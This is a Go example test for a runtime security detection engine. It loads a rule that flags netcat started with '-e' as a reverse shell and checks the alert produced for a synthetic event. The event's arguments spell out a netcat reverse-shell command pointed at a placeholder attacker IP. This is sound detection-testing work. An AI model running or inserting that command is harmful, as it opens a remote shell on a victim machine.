package detect_test

import (
	"fmt"
	"testing/fstest"

	"github.com/vigilsec/vigil/detect"
	vigilv1 "github.com/vigilsec/vigil/proto/vigil/v1"
)

// Load rules, run an event through the engine, read the alert.
func Example() {
	builtin := fstest.MapFS{"rules.yaml": {Data: []byte(`
- rule: Netcat with a shell
  desc: nc started with -e, a reverse or bind shell.
  condition: evt.type = execve and proc.name = nc and proc.args contains "-e"
  output: "netcat shell: %proc.cmdline (parent=%proc.pname)"
  priority: WARNING
  finding: {type: "Execution:Runtime/ReverseShell", severity: 8, techniques: [T1059.004]}
`)}}
	rs, errs := detect.LoadRules(builtin, "")
	if detect.HasErrors(errs) {
		fmt.Println(errs)
		return
	}
	engine := detect.NewEngine(detect.EngineConfig{}, nil, nil)
	engine.SetRules(rs)

	ev := &vigilv1.Event{
		Syscall: "execve",
		Process: &vigilv1.Process{Comm: "nc", ExePath: "/usr/bin/nc", Args: []string{"nc", "-e", "/bin/sh", "203.0.113.7", "4444"},
			Lineage: []*vigilv1.Ancestor{{Comm: "bash"}}},
		Kind: &vigilv1.Event_Exec{Exec: &vigilv1.Exec{Filename: "/usr/bin/nc"}},
	}
	engine.Process(ev, func(a *detect.Alert) {
		fmt.Println(a.Rule.FindingType, a.Rule.Severity)
		fmt.Println(a.Output)
	})
	// Output:
	// Execution:Runtime/ReverseShell 8
	// netcat shell: nc -e /bin/sh 203.0.113.7 4444 (parent=bash)
}
